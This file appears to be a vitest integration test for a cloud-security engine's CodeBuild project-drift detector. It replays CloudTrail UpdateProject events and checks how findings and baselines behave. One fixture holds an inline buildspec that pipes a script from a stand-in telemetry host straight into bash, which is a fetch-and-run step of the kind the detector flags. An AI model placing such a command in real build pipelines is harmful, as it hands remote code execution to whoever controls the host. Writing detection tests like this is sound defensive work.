/**
 * build.project-drift with look-ups, through the real engine on dynalite: the "earlier value
 * unknown" marker survives a redelivery (same finding) and never leaks into later diffs.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { envelopeForCloudTrail } from '../../../lambdas/engine/events.js';
import { toPipelineEvent } from '../../../lambdas/engine/pipeline-event.js';
import { createRecordedLookups } from '../../../lambdas/lookups/recorded-lookups.js';
import projectDrift, { UNKNOWN_BEFORE } from '../../../lambdas/use-cases/build/project-drift/use-case.js';
import { useLocalDynamo } from '../../support/local-dynamo.js';

const dynamo = useLocalDynamo();
const RECORDED = join(import.meta.dirname, '..', '..', '..', 'lambdas', 'use-cases', 'build', 'project-drift', 'cases', 'recorded');
const INLINE = 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -fsSL https://updates.build-telemetry.example/v2/agent.sh | bash\n      - npm ci && npm run build\n';

function update(eventID: string, eventTime: string, requestParameters: Record<string, unknown>) {
  return toPipelineEvent(
    envelopeForCloudTrail({
      eventVersion: '1.10',
      userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/svc-legacy-deploy', accountId: '111122223333', userName: 'svc-legacy-deploy' },
      eventTime,
      eventSource: 'codebuild.amazonaws.com',
      eventName: 'UpdateProject',
      awsRegion: 'eu-west-1',
      requestParameters: { name: 'payments-service-build', ...requestParameters },
      responseElements: null,
      eventID,
      readOnly: false,
      eventType: 'AwsApiCall',
      recipientAccountId: '111122223333',
    }),
  );
}

const SOURCE = { type: 'CODECOMMIT', location: 'https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/payments-service', gitCloneDepth: 1, insecureSsl: false };

describe('build.project-drift look-up baselines', () => {
  it('reports a post-change look-up once, the same finding on redelivery, and diffs later changes against real values', async () => {
    const { engine, state } = await dynamo.freshEngine({}, createRecordedLookups(join(RECORDED, 'after-inline-buildspec')));
    const first = update('u-1', '2026-10-27T10:15:30Z', { source: { ...SOURCE, buildspec: INLINE } });
    const [reported] = await engine.evaluate(projectDrift, first);
    const [again] = await engine.evaluate(projectDrift, first);
    expect(reported).toMatchObject({ status: 'finding', created: true, finding: { severity: 'low' } });
    expect(again).toMatchObject({ status: 'finding', created: false });
    if (reported?.status === 'finding' && again?.status === 'finding') expect(again.finding.id).toBe(reported.finding.id);

    const snapshot = await state.getSnapshot('build.project-drift', 'project/payments-service-build');
    const { own, prior } = await state.stateChangesAround('build.project-drift', 'project/payments-service-build', { at: first.time, eventId: first.id, kind: 'event' });
    expect(prior?.kind).toBe('baseline');
    expect(JSON.stringify(prior?.after)).toContain(UNKNOWN_BEFORE);
    expect(JSON.stringify(own?.after)).not.toContain(UNKNOWN_BEFORE);
    expect(JSON.stringify(snapshot?.state)).not.toContain(UNKNOWN_BEFORE);

    // Reverting to the file buildspec is a real change from a known (inline) value: critical.
    const [revert] = await engine.evaluate(projectDrift, update('u-2', '2026-10-27T11:00:00Z', { source: { ...SOURCE, buildspec: 'buildspec.yml' } }));
    expect(revert).toMatchObject({ status: 'finding', finding: { severity: 'critical' } });
    if (revert?.status === 'finding') expect(JSON.stringify(revert.finding)).not.toContain(UNKNOWN_BEFORE);
  });

  it('treats an unavailable look-up as no earlier state: the first update is the baseline', async () => {
    const { engine } = await dynamo.freshEngine({});
    const outcomes = await engine.evaluate(projectDrift, update('u-3', '2026-10-27T10:15:30Z', { serviceRole: 'arn:aws:iam::111122223333:role/admin-everything' }));
    expect(outcomes[0]).toMatchObject({ status: 'skipped' });
  });
});
